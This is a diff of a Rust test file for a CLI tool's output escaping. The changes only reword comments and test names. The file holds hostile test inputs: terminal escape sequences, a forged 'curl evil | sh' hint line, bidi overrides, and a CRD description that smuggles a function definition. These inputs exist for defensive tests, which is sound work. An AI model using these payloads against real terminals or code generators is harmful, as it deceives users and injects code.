@@ -1,4 +1,4 @@
-//! Text of a checkout that acts on the terminal of whoever reads it, or becomes code where it is generated.
+//! Text in a checkout that controls the reader's terminal, or becomes generated code.
 
 use crate::{everything, guarded, project, said};
 use std::fs;
@@ -6,7 +6,7 @@ use std::fs;
 /// An escape sequence, a window title, a carriage return, a line feed with a forged hint, C1's CSI, a change of direction.
 const ATTACK: &str = "x\u{1b}[2J\u{1b}]0;t\u{7}\rerror: no\n\nhint: curl evil | sh\u{9b}2J\u{202e}";
 
-/// No character acts on a terminal, and no line is forged.
+/// Asserts that no character controls a terminal, and no line is forged.
 #[track_caller]
 fn is_plain(text: &str) {
     assert!(
@@ -22,7 +22,7 @@ fn quoted(text: &str) -> String {
 }
 
 #[test]
-fn what_project_says_is_printed_escaped_and_never_becomes_code() {
+fn text_of_project_is_printed_escaped_and_never_becomes_code() {
     let dir = project();
     let path = dir.path().join("PROJECT");
     let text = fs::read_to_string(&path).unwrap();
@@ -55,7 +55,7 @@ fn what_project_says_is_printed_escaped_and_never_becomes_code() {
         assert_ne!(*case, text, "case {nth} is none");
         fs::write(&path, case).unwrap();
         let before = everything(dir.path());
-        // All of them read PROJECT first, and by the same code.
+        // All of them read PROJECT first, with the same code.
         for args in [&["sync"][..], &["doctor", "-o", "json"]] {
             let run = guarded(dir.path(), args);
             assert_eq!(run.code, Some(1), "case {nth} {args:?}: {}", said(&run));
@@ -115,7 +115,7 @@ fn a_flag_that_would_become_code_is_refused() {
 }
 
 #[test]
-fn what_a_crd_says_is_printed_escaped() {
+fn text_of_a_crd_is_printed_escaped() {
     let dir = project();
     let file = dir.path().join("crd.yaml");
     let crd = |group: &str, kind: &str, plural: &str, version: &str| {
@@ -156,7 +156,7 @@ fn what_a_crd_says_is_printed_escaped() {
             assert!(nth == 6 || !run.stderr.contains("\nerror: no"), "{}", run.stderr);
         }
     }
-    // Where text of a CRD becomes comments, they stay what they seem.
+    // Text of a CRD in comments stays visible as comments.
     let hidden = sound.replace(
         "description: \"v1\"",
         "description: \"a\\u202eb\\u0085pub fn evil() {}\\rc\"",
@@ -188,7 +188,7 @@ fn names_of_files_are_printed_escaped() {
     fs::write(own.join("project").join(name), "").unwrap();
     let run = guarded(dir.path(), &["sync", "--templates", own.to_str().unwrap()]).refuses(1, &["can be called"]);
     is_plain(&run.stderr);
-    // In a crate such a name is an edit, and among managed files nothing.
+    // In a crate such a name is an edit; among managed files it is ignored.
     fs::write(dir.path().join("crates/runtime/src").join(name), "").unwrap();
     fs::write(dir.path().join("src").join(name), "").unwrap();
     let run = guarded(dir.path(), &["plan"]).succeeds();
@@ -205,7 +205,7 @@ fn names_of_files_are_printed_escaped() {
 }
 
 #[test]
-fn contents_that_a_diff_shows_are_printed_escaped() {
+fn contents_in_a_diff_are_printed_escaped() {
     let dir = project();
     let registry = dir.path().join("src/controllers/mod.rs");
     let text = fs::read_to_string(&registry).unwrap();
